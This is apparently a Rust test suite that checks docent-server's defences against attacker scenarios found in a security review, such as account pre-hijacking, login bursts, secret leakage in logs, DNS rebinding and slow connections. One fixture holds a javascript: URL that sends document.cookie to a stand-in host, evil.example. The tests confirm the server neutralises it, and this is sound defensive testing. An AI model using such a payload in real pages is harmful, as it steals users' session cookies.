//! The holes found by trying docent-server as an attacker would (issue 11), one black-box test
//! each: the real executable (process.rs), real HTTP over loopback, a real SMTP server. Run
//! with `DOCENT_SERVER_UNDER_TEST=<an older docent-server>`, each of them fails there.

use std::time::Duration;

use base64::engine::general_purpose::STANDARD;
use base64::Engine as _;
use reqwest::Method;
use serde_json::{json, Value};
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};

use crate::helpers::{assert_error, spawn_app, PASSWORD};
use crate::mail::MailServer;
use crate::process::{client_from, command, free_port, Process};
use docent_test_support::remote::{FakeLlm, FakeRetrieval, Reply};

fn mail_env(mail: &MailServer) -> Vec<(&'static str, String)> {
    vec![
        ("DOCENT_SMTP_URL", mail.url()),
        (
            "DOCENT_MAIL_FROM",
            "Docent <docent@corp.example>".to_owned(),
        ),
    ]
}

/// Signs `email` in by the emailed link, the `count`-th email it receives; the answer's body.
async fn sign_in_by_email(
    server: &Process,
    mail: &MailServer,
    client: &reqwest::Client,
    email: &str,
    count: usize,
) -> Value {
    let response = server
        .post(client, "/auth/request-login", &json!({ "email": email }))
        .await;
    assert_eq!(response.status(), 202);
    let token = mail
        .wait_for(email, count)
        .await
        .token(&server.at("/login/verify?token="));
    let response = server
        .post(client, "/auth/verify-login", &json!({ "token": token }))
        .await;
    assert_eq!(response.status(), 200);
    response.json().await.unwrap()
}

fn session_of(body: &Value) -> String {
    body["session_token"].as_str().unwrap().to_owned()
}

async fn register(server: &Process, email: &str, password: &str) -> reqwest::Response {
    server
        .post(
            &reqwest::Client::new(),
            "/auth/register",
            &json!({ "email": email, "password": password }),
        )
        .await
}

async fn login(server: &Process, email: &str, password: &str) -> reqwest::Response {
    server
        .post(
            &reqwest::Client::new(),
            "/auth/login",
            &json!({ "email": email, "password": password }),
        )
        .await
}

async fn json_of(response: reqwest::Response) -> Value {
    assert!(
        response.status().is_success(),
        "status {}",
        response.status()
    );
    response.json().await.unwrap()
}

/// 1. Registering with a password proves nothing about the address, so it makes nobody a member
/// of the address's domain: they can neither sign in where email could prove it, nor see what
/// the domain shares, nor share anything with it.
#[tokio::test]
async fn a_password_registration_proves_nothing_and_makes_no_domain_member() {
    let mail = MailServer::start();
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("data");
    let mut env = mail_env(&mail);
    env.push(("DOCENT_ALLOWED_EMAIL_DOMAINS", "corp.example".to_owned()));
    let server = Process::start(&data, &env).await;
    let client = reqwest::Client::new();
    let alice =
        session_of(&sign_in_by_email(&server, &mail, &client, "alice@corp.example", 1).await);
    let workspace = json_of(
        server
            .send(
                Method::POST,
                "/workspaces",
                &alice,
                &json!({"name": "Board", "shared_with_domain": true}),
            )
            .await,
    )
    .await;
    let minutes = json_of(
        server
            .send(
                Method::POST,
                &format!(
                    "/workspaces/{}/conversations",
                    workspace["id"].as_str().unwrap()
                ),
                &alice,
                &json!({"title": "Board minutes"}),
            )
            .await,
    )
    .await;
    let minutes_id = minutes["id"].as_str().unwrap();

    let registered = register(&server, "mallory@corp.example", PASSWORD).await;
    assert_eq!(registered.status(), 201);
    let registered: Value = registered.json().await.unwrap();
    let message = assert_error(
        login(&server, "mallory@corp.example", PASSWORD).await,
        403,
        "email_not_verified",
    )
    .await;
    assert!(message.contains("send a new one"), "{message}");
    assert_eq!(registered["email_verified"], false);
    assert_eq!(registered["verification_sent"], true);
    // The confirmation went to the address's owner, not to whoever registered it.
    mail.wait_for("mallory@corp.example", 1).await;
    server.stop();

    // Without email (so without the allow-list), an unproven account signs in for its own
    // workspaces only.
    let server = Process::start(&data, &[]).await;
    assert_eq!(
        register(&server, "eve@corp.example", PASSWORD)
            .await
            .status(),
        201
    );
    let eve = json_of(login(&server, "eve@corp.example", PASSWORD).await).await;
    assert_eq!(eve["email_verified"], false);
    let eve = session_of(&eve);
    let me = json_of(server.get("/auth/validate", &eve).await).await;
    assert_eq!(me["email_verified"], false);
    assert_eq!(
        json_of(server.get("/history?scope=domain", &eve).await).await,
        json!([])
    );
    for path in [
        format!("/conversations/{minutes_id}"),
        format!("/conversations/{minutes_id}/export"),
        format!("/chat/history?conversation_id={minutes_id}"),
    ] {
        assert_eq!(server.get(&path, &eve).await.status(), 404, "{path}");
    }
    // Nor does what she shares reach the domain.
    let hers = json_of(
        server
            .send(
                Method::POST,
                "/workspaces",
                &eve,
                &json!({"name": "Lure", "shared_with_domain": true}),
            )
            .await,
    )
    .await;
    let lure = json_of(
        server
            .send(
                Method::POST,
                &format!("/workspaces/{}/conversations", hers["id"].as_str().unwrap()),
                &eve,
                &json!({"title": "Urgent: new payroll portal"}),
            )
            .await,
    )
    .await;
    let seen_by_alice = json_of(server.get("/history?scope=domain", &alice).await).await;
    let titles: Vec<&str> = seen_by_alice
        .as_array()
        .unwrap()
        .iter()
        .map(|entry| entry["title"].as_str().unwrap())
        .collect();
    assert_eq!(titles, ["Board minutes"], "her own, and nothing of eve's");
    assert_eq!(
        server
            .get(
                &format!("/conversations/{}", lure["id"].as_str().unwrap()),
                &alice
            )
            .await
            .status(),
        404
    );
}

/// 2. Pre-hijacking: someone registers the victim's address with a password before the victim
/// arrives. The victim's emailed sign-in proves the address: the password is removed and every
/// earlier session ends, and the victim is told.
#[tokio::test]
async fn an_emailed_sign_in_takes_back_an_address_someone_else_registered_first() {
    let attacker_password = "Attacker-Knows-This-Phrase-66";
    let mail = MailServer::start();
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("data");
    // Before email was set up, the attacker registered the victim's address and signed in.
    let server = Process::start(&data, &[]).await;
    assert_eq!(
        register(&server, "victim@corp.example", attacker_password)
            .await
            .status(),
        201
    );
    let attacker =
        session_of(&json_of(login(&server, "victim@corp.example", attacker_password).await).await);
    server.stop();

    let server = Process::start(&data, &mail_env(&mail)).await;
    assert_error(
        login(&server, "victim@corp.example", attacker_password).await,
        403,
        "email_not_verified",
    )
    .await;
    let victim = sign_in_by_email(
        &server,
        &mail,
        &reqwest::Client::new(),
        "victim@corp.example",
        1,
    )
    .await;
    let notice = victim["notice"].as_str().expect("the victim is told");
    assert!(notice.contains("password was removed"), "{notice}");
    assert_eq!(victim["email_verified"], true);
    assert_eq!(
        server.get("/auth/validate", &attacker).await.status(),
        401,
        "the attacker's session ended"
    );
    assert_error(
        login(&server, "victim@corp.example", attacker_password).await,
        401,
        "invalid_credentials",
    )
    .await;
    let told = mail.wait_for("victim@corp.example", 2).await;
    assert!(
        told.subject.contains("password was removed"),
        "{}",
        told.subject
    );
    let me = json_of(server.get("/auth/validate", &session_of(&victim)).await).await;
    assert_eq!(me["email_verified"], true);
}

/// 3. The throttle counts an attempt before its password is checked: of 41 sent at once (one
/// with the right password), at most five are checked at all.
#[tokio::test]
async fn forty_wrong_passwords_at_once_get_at_most_five_checks() {
    let dir = tempfile::tempdir().unwrap();
    let server = Process::start(&dir.path().join("data"), &[]).await;
    assert_eq!(
        register(&server, "burst@example.com", PASSWORD)
            .await
            .status(),
        201
    );
    let client = reqwest::Client::new();
    let attempts = (0..41).map(|i| {
        let password = if i == 20 {
            PASSWORD.to_owned()
        } else {
            format!("Wrong-Guess-Number-{i:02}-Xyzzy")
        };
        let (server, client) = (&server, &client);
        async move {
            server
                .post(
                    client,
                    "/auth/login",
                    &json!({"email": "burst@example.com", "password": password}),
                )
                .await
                .status()
                .as_u16()
        }
    });
    let statuses = futures_util::future::join_all(attempts).await;
    let checked = statuses.iter().filter(|s| **s == 401 || **s == 200).count();
    let waited = statuses.iter().filter(|s| **s == 429).count();
    assert!(
        checked <= 5,
        "{checked} passwords were checked: {statuses:?}"
    );
    assert_eq!(checked + waited, 41, "{statuses:?}");
}

/// 4. Even at the most verbose level, the logs hold no SMTP credential, no emailed token and no
/// code, and no password.
#[tokio::test]
async fn trace_logs_hold_no_smtp_credentials_tokens_codes_or_passwords() {
    let (user, smtp_password) = ("docent-mailer", "Smtp-Pass-Word-314");
    let mail = MailServer::start_with_login(user, smtp_password);
    let dir = tempfile::tempdir().unwrap();
    let server = Process::start(
        &dir.path().join("data"),
        &[
            (
                "DOCENT_SMTP_URL",
                format!("smtp://{user}:{smtp_password}@127.0.0.1:{}", mail.port),
            ),
            ("DOCENT_MAIL_FROM", "Docent <docent@example.com>".to_owned()),
            ("DOCENT_LOG", "trace".to_owned()),
        ],
    )
    .await;
    let client = reqwest::Client::new();
    let signed_in = sign_in_by_email(&server, &mail, &client, "trace@example.com", 1).await;
    let email = mail.received_by("trace@example.com").pop().unwrap();
    let token = email.token(&server.at("/login/verify?token="));
    let code = email.code();
    let mut secrets = vec![
        smtp_password.to_owned(),
        STANDARD.encode(format!("\0{user}\0{smtp_password}")),
        STANDARD.encode(smtp_password),
        token,
        code.clone(),
        code.replace('-', ""),
        session_of(&signed_in),
    ];
    let assert_clean = |log: &str, secrets: &[String]| {
        assert!(
            log.contains(" DEBUG "),
            "the log is as verbose as it gets:\n{log}"
        );
        assert!(log.contains("email sent"), "the log covers the sending");
        for secret in secrets {
            if let Some(line) = log.lines().find(|line| line.contains(secret.as_str())) {
                panic!("{secret:?} is in the log: {line}");
            }
        }
    };
    assert_clean(&server.log(), &secrets);

    // A password registration, and the confirmation that signs it in.
    assert_eq!(
        register(&server, "confirm@example.com", PASSWORD)
            .await
            .status(),
        201
    );
    let confirmation = mail.wait_for("confirm@example.com", 1).await;
    let confirmed = server
        .post(
            &client,
            "/auth/verify-email",
            &json!({"email": "confirm@example.com", "code": confirmation.code(), "password": PASSWORD}),
        )
        .await;
    let confirmed = json_of(confirmed).await;
    secrets.extend([
        PASSWORD.to_owned(),
        confirmation.code(),
        confirmation.token(&server.at("/verify-email?token=")),
        session_of(&confirmed),
    ]);
    assert_clean(&server.log(), &secrets);
}

/// 5a. Neither `--help` nor a configuration error repeats a password given in a URL.
#[test]
fn help_and_configuration_errors_never_repeat_a_url_password() {
    let help = command()
        .arg("--help")
        .env(
            "DOCENT_SMTP_URL",
            "smtp://mailer:Help-Secret-1@mail.example:587",
        )
        .env(
            "DOCENT_LLM_BASE_URL",
            "https://key:Help-Secret-2@llm.example/v1",
        )
        .env(
            "DOCENT_RETRIEVAL_URL",
            "https://key:Help-Secret-3@search.example/q",
        )
        .env("DOCENT_PUBLIC_URL", "https://docent.example.com")
        .output()
        .unwrap();
    assert!(help.status.success());
    let help = String::from_utf8_lossy(&help.stdout);
    assert!(help.contains("DOCENT_SMTP_URL"), "{help}");
    assert!(!help.contains("Help-Secret"), "{help}");

    let dir = tempfile::tempdir().unwrap();
    for (flag, value) in [
        ("--smtp-url", "ftp://mailer:Flag-Secret-4@mail.example"),
        ("--llm-base-url", "ftp://key:Flag-Secret-5@llm.example"),
        ("--retrieval-url", "ssh://key:Flag-Secret-6@search.example"),
    ] {
        let output = command()
            .args(["--data-dir", dir.path().to_str().unwrap(), flag, value])
            .env("DOCENT_MAIL_FROM", "Docent <d@example.com>")
            .output()
            .unwrap();
        assert!(!output.status.success(), "{flag} {value} is refused");
        let said = String::from_utf8_lossy(&output.stderr);
        assert!(said.contains("DOCENT_"), "it names the setting: {said}");
        assert!(!said.contains("Flag-Secret"), "{said}");
    }
}

/// 5b. The settings and status answers show a URL's user-info masked.
#[tokio::test]
async fn settings_and_status_show_urls_with_their_password_masked() {
    let closed = free_port();
    let dir = tempfile::tempdir().unwrap();
    let server = Process::start(
        &dir.path().join("data"),
        &[
            (
                "DOCENT_LLM_BASE_URL",
                format!("http://llm-user:Url-Secret-7@127.0.0.1:{closed}/v1"),
            ),
            ("DOCENT_LLM_API_KEY", "sk-Url-Secret-8".to_owned()),
            (
                "DOCENT_RETRIEVAL_URL",
                format!("http://search:Url-Secret-9@127.0.0.1:{closed}/search"),
            ),
        ],
    )
    .await;
    assert_eq!(
        register(&server, "shown@example.com", PASSWORD)
            .await
            .status(),
        201
    );
    let token = session_of(&json_of(login(&server, "shown@example.com", PASSWORD).await).await);
    let settings = json_of(server.get("/settings", &token).await).await;
    let status = json_of(server.get("/status", &token).await).await;
    for body in [&settings, &status] {
        assert!(!body.to_string().contains("Url-Secret"), "{body}");
    }
    assert_eq!(
        settings["llm_base_url"],
        format!("http://***@127.0.0.1:{closed}/v1")
    );
    assert_eq!(
        settings["retrieval_url"],
        format!("http://***@127.0.0.1:{closed}/search")
    );
    let said = status["retrieval"]["message"].as_str().unwrap();
    assert!(
        said.contains(&format!("http://***@127.0.0.1:{closed}/search")),
        "{said}"
    );
}

/// 6. A connection that never finishes its request headers is closed, and so is one left idle
/// after a response. Tokio's clock is paused, so the timeout passes without waiting for it.
#[tokio::test]
async fn connections_that_send_no_complete_request_are_closed() {
    let app = spawn_app().await;
    tokio::time::pause();
    let timeout = docent_server::serve::HEADER_READ_TIMEOUT;

    let started = tokio::time::Instant::now();
    let mut slow = tokio::net::TcpStream::connect(("127.0.0.1", app.port))
        .await
        .unwrap();
    slow.write_all(b"GET /openapi.json HTTP/1.1\r\nHost: 127.0.0.1\r\n")
        .await
        .unwrap();
    let mut buffer = vec![0u8; 64 * 1024];
    let read = tokio::time::timeout(Duration::from_secs(600), slow.read(&mut buffer))
        .await
        .expect("closed within ten minutes");
    assert!(
        matches!(read, Ok(0) | Err(_)),
        "closed without an answer: {read:?}"
    );
    let waited = started.elapsed();
    assert!(
        waited >= timeout && waited < timeout * 2,
        "closed after {waited:?}"
    );

    let mut idle = tokio::net::TcpStream::connect(("127.0.0.1", app.port))
        .await
        .unwrap();
    let request = format!(
        "GET /openapi.json HTTP/1.1\r\nHost: 127.0.0.1:{}\r\n\r\n",
        app.port
    );
    idle.write_all(request.as_bytes()).await.unwrap();
    let mut answer = Vec::new();
    while !answer.windows(4).any(|w| w == b"\r\n\r\n") {
        let n = idle.read(&mut buffer).await.unwrap();
        assert!(n > 0, "an answer");
        answer.extend_from_slice(&buffer[..n]);
    }
    assert!(
        answer.starts_with(b"HTTP/1.1 200"),
        "{}",
        String::from_utf8_lossy(&answer)
    );
    let answered = tokio::time::Instant::now();
    let closed = tokio::time::timeout(Duration::from_secs(600), async {
        loop {
            match idle.read(&mut buffer).await {
                Ok(0) | Err(_) => break,
                Ok(_) => continue, // the rest of the body
            }
        }
    })
    .await;
    assert!(closed.is_ok(), "an idle connection is closed");
    let idled = answered.elapsed();
    assert!(
        idled >= timeout && idled < timeout * 2,
        "closed after {idled:?} idle"
    );
}

/// 7. Bound beyond loopback, only the public URL's host is ours (no DNS rebinding), and only its
/// exact origin (scheme and port included) may change anything.
#[tokio::test]
async fn beyond_loopback_only_the_public_urls_host_and_origin_are_accepted() {
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("data");
    let port = free_port();
    let refused = Process::start_at(&data, &format!("0.0.0.0:{port}"), port, &[]).await;
    let said = refused
        .err()
        .expect("no start beyond loopback without a public URL");
    assert!(said.contains("DOCENT_PUBLIC_URL"), "{said}");

    let public = format!("http://docent.corp.example:{port}");
    let server = Process::start_at(
        &data,
        &format!("0.0.0.0:{port}"),
        port,
        &[("DOCENT_PUBLIC_URL", public.clone())],
    )
    .await
    .unwrap();
    let register_as = |host: String, origin: String, email: &'static str| {
        let url = server.at("/auth/register");
        async move {
            reqwest::Client::new()
                .post(url)
                .header("Host", host)
                .header("Origin", origin)
                .json(&json!({"email": email, "password": PASSWORD}))
                .send()
                .await
                .unwrap()
        }
    };
    let rebound = format!("rebound.attacker.example:{port}");
    assert_error(
        register_as(
            rebound.clone(),
            format!("http://{rebound}"),
            "a@example.com",
        )
        .await,
        403,
        "host_not_allowed",
    )
    .await;
    let ours = format!("docent.corp.example:{port}");
    assert_error(
        register_as(ours.clone(), format!("https://{ours}"), "b@example.com").await,
        403,
        "origin_not_allowed",
    )
    .await;
    assert_error(
        register_as(
            ours.clone(),
            format!("http://docent.corp.example:{}", port + 1),
            "c@example.com",
        )
        .await,
        403,
        "origin_not_allowed",
    )
    .await;
    assert_eq!(
        register_as(ours, public, "d@example.com").await.status(),
        201
    );
}

/// 8. Emails written to files hold live links: the data dir and the mail folder are 0700 (an
/// existing data dir is tightened at start) and each file 0600.
#[tokio::test]
async fn mail_files_and_the_data_dir_are_readable_by_their_owner_only() {
    use std::os::unix::fs::PermissionsExt as _;
    let mode =
        |path: &std::path::Path| std::fs::metadata(path).unwrap().permissions().mode() & 0o777;
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("data");
    std::fs::create_dir(&data).unwrap();
    std::fs::set_permissions(&data, std::fs::Permissions::from_mode(0o755)).unwrap();
    let server = Process::start(&data, &[("DOCENT_MAIL_TRANSPORT", "file".to_owned())]).await;
    let response = server
        .post(
            &reqwest::Client::new(),
            "/auth/request-login",
            &json!({"email": "files@example.com"}),
        )
        .await;
    assert_eq!(response.status(), 202);
    let mail_dir = data.join("mail");
    let started = std::time::Instant::now();
    let email = loop {
        let written = std::fs::read_dir(&mail_dir)
            .into_iter()
            .flatten()
            .map(|entry| entry.unwrap().path())
            .find(|path| path.extension().is_some_and(|e| e == "eml"));
        if let Some(path) = written {
            break path;
        }
        assert!(
            started.elapsed() < Duration::from_secs(15),
            "no .eml written"
        );
        tokio::time::sleep(Duration::from_millis(25)).await;
    };
    assert!(std::fs::read_to_string(&email)
        .unwrap()
        .contains("login/verify?token="));
    assert_eq!(mode(&data), 0o700, "the data dir");
    assert_eq!(mode(&mail_dir), 0o700, "the mail folder");
    assert_eq!(mode(&email), 0o600, "the email");
    assert_eq!(mode(&data.join("docent.sqlite3")), 0o600, "the database");
}

/// 9. A retrieval chunk's `javascript:` URL never becomes a link: not in the stored citation,
/// not in the Markdown export.
#[tokio::test]
async fn only_web_addresses_become_links_in_citations_and_exports() {
    let llm = FakeLlm::start().await;
    let retrieval = FakeRetrieval::start().await;
    retrieval.set_chunks(vec![
        json!({"id": "c1", "text": "Open the portal.", "source": "lure.pdf", "title": "Portal",
               "url": "javascript:fetch('//evil.example/'+document.cookie)", "page": 1}),
        json!({"id": "c2", "text": "Expenses are due monthly.", "source": "finance.pdf",
               "title": "Finance", "url": "https://docs.example.com/finance.pdf", "page": 2}),
    ]);
    llm.reply(Reply::text(&["See [1] and [2]."]));
    let dir = tempfile::tempdir().unwrap();
    let server = Process::start(
        &dir.path().join("data"),
        &[
            ("DOCENT_LLM_BASE_URL", llm.base_url.clone()),
            ("DOCENT_LLM_API_KEY", "test-key".to_owned()),
            ("DOCENT_LLM_MODEL", "test/model".to_owned()),
            ("DOCENT_RETRIEVAL_URL", retrieval.url.clone()),
        ],
    )
    .await;
    assert_eq!(
        register(&server, "reader@example.com", PASSWORD)
            .await
            .status(),
        201
    );
    let token = session_of(&json_of(login(&server, "reader@example.com", PASSWORD).await).await);
    let answer = json_of(
        server
            .send(
                Method::POST,
                "/chat/message",
                &token,
                &json!({"message": "Where is the portal?"}),
            )
            .await,
    )
    .await;
    let citations = answer["citations"].as_array().unwrap();
    assert_eq!(citations.len(), 2, "{answer}");
    assert_eq!(citations[0]["url"], Value::Null, "{answer}");
    assert_eq!(citations[1]["url"], "https://docs.example.com/finance.pdf");
    let id = answer["conversation_id"].as_str().unwrap();
    let markdown = server
        .get(&format!("/conversations/{id}/export?format=md"), &token)
        .await
        .text()
        .await
        .unwrap();
    assert!(
        !markdown.to_lowercase().contains("javascript:"),
        "{markdown}"
    );
    assert!(
        markdown.contains("<https://docs.example.com/finance.pdf>"),
        "{markdown}"
    );
}

/// 10. A stranger asking for someone's sign-in emails uses up only the stranger's allowance, and
/// their wrong codes use up the code, never the emailed link.
#[tokio::test]
async fn strangers_can_neither_use_up_nor_void_someone_elses_sign_in() {
    let mail = MailServer::start();
    let dir = tempfile::tempdir().unwrap();
    let server = Process::start(&dir.path().join("data"), &mail_env(&mail)).await;
    let stranger = client_from("127.0.0.2");
    let owner = client_from("127.0.0.1");
    let victim = "owner@corp.example";
    for _ in 0..6 {
        let response = server
            .post(&stranger, "/auth/request-login", &json!({"email": victim}))
            .await;
        assert_eq!(response.status(), 202);
    }
    mail.wait_for(victim, 1).await;
    let response = server
        .post(&owner, "/auth/request-login", &json!({"email": victim}))
        .await;
    assert_eq!(response.status(), 202);
    let email = mail.wait_for(victim, 2).await;
    for _ in 0..5 {
        let response = server
            .post(
                &stranger,
                "/auth/verify-login",
                &json!({"email": victim, "code": "AAAA-AAAA"}),
            )
            .await;
        assert_error(response, 400, "invalid_code").await;
    }
    let response = server
        .post(
            &owner,
            "/auth/verify-login",
            &json!({"email": victim, "code": email.code()}),
        )
        .await;
    assert_error(response, 400, "invalid_code").await;
    let token = email.token(&server.at("/login/verify?token="));
    let response = server
        .post(&owner, "/auth/verify-login", &json!({"token": token}))
        .await;
    assert_eq!(response.status(), 200, "the link still works");
}
